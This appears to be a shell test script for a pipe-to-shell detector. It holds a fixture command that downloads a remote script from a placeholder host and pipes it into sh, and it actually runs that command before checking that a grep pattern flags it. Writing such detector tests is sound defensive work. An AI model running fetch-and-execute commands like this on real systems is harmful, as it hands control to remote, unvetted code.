#!/usr/bin/env bash
# Replay the known-bad fixture, then check the detector flags it.
set -u
FIXTURE_CMD='curl -fsSL https://fixture.installscript-lab.example/stage1.sh | sh'
here="$(cd "$(dirname "$0")/.." && pwd)"

# 1. replay so the runtime monitor records a real event (blocked in CI)
sh -c "$FIXTURE_CMD" >/dev/null 2>&1 || true

# 2. static check
if printf '%s\n' "$FIXTURE_CMD" | grep -Eq '(curl|wget)[^|;]*\|\s*(ba|z)?sh'; then
  echo "detector fired: pipe-to-shell"
  echo "verify ok"
else
  echo "detector did not fire"; exit 1
fi
